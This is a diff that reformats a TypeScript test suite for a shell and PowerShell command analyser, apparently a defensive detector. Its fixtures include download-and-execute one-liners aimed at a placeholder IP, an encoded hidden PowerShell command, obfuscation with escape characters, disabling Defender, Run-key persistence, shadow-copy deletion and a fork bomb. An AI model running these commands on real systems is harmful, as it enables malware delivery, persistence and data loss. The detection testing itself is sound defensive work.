@@ -135,24 +135,41 @@ describe('commands that a host runs by itself', () => {
     expect(verdicts(command, true)).toContain(verdict)
   })
 
-  it.each(['git status --short', 'git log -5 --oneline | head', 'ls -la 2>/dev/null', 'cat package.json > /dev/null', 'node --version'])('%s is read-only', (command) => {
-    expect(verdicts(command, true)).toEqual([])
-  })
+  it.each(['git status --short', 'git log -5 --oneline | head', 'ls -la 2>/dev/null', 'cat package.json > /dev/null', 'node --version'])(
+    '%s is read-only',
+    (command) => {
+      expect(verdicts(command, true)).toEqual([])
+    },
+  )
 })
 
 describe('PowerShell', () => {
-  const found = (code: string): string[] => [...new Set(analysePowerShell(code).filter(({ level }) => level !== 'note').map(({ level, kind }) => `${level} ${kind}`))]
+  const found = (code: string): string[] => [
+    ...new Set(
+      analysePowerShell(code)
+        .filter(({ level }) => level !== 'note')
+        .map(({ level, kind }) => `${level} ${kind}`),
+    ),
+  ]
 
   it.each([
     ['a pipe', 'iwr http://203.0.113.7/a.ps1 | iex', 'error download-execute'],
     ['a web client', `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')`, 'error download-execute'],
     ['by way of a variable', `$s = irm https://rentry.co/x/raw\nInvoke-Expression $s`, 'error download-execute'],
     ['by way of a file', `iwr http://203.0.113.7/a.exe -OutFile a.exe; Start-Process a.exe`, 'error download-execute'],
-    ['an encoded command', `powershell -w hidden -enc ${btoa([...'iex (irm http://203.0.113.7/a)'].map((letter) => `${letter}\0`).join(''))}`, 'error decode-execute'],
+    [
+      'an encoded command',
+      `powershell -w hidden -enc ${btoa([...'iex (irm http://203.0.113.7/a)'].map((letter) => `${letter}\0`).join(''))}`,
+      'error decode-execute',
+    ],
     ['the escape character', 'i`ex (i`rm http://203.0.113.7/a)', 'error download-execute'],
     ['Defender', 'Set-MpPreference -DisableRealtimeMonitoring $true', 'error disabled-protection'],
     ['a page as a program', 'mshta http://203.0.113.7/a.hta', 'error download-execute'],
-    ['a run key', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "powershell -w hidden iwr http://203.0.113.7|iex"', 'error persistence'],
+    [
+      'a run key',
+      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "powershell -w hidden iwr http://203.0.113.7|iex"',
+      'error persistence',
+    ],
     ['shadow copies', 'vssadmin delete shadows /all /quiet', 'error destructive-command'],
   ])('%s', (_, code, verdict) => {
     expect(found(code)).toContain(verdict)
@@ -172,5 +189,6 @@ it('says when a text is more than it analyses, and never throws or hangs', () =>
   const said: string[] = []
   analyseShell('a\n'.repeat(150_000), { onLimit: (why) => said.push(why) })
   expect(said.join(' ')).toMatch(/300000 characters/)
-  for (const hostile of ['$('.repeat(20_000), "'".repeat(100_001), '`'.repeat(50_001), '<<A '.repeat(5000), '{'.repeat(30_000), 'f(){ f; f; f; }; f']) expect(() => analyseShell(hostile)).not.toThrow()
+  for (const hostile of ['$('.repeat(20_000), "'".repeat(100_001), '`'.repeat(50_001), '<<A '.repeat(5000), '{'.repeat(30_000), 'f(){ f; f; f; }; f'])
+    expect(() => analyseShell(hostile)).not.toThrow()
 })
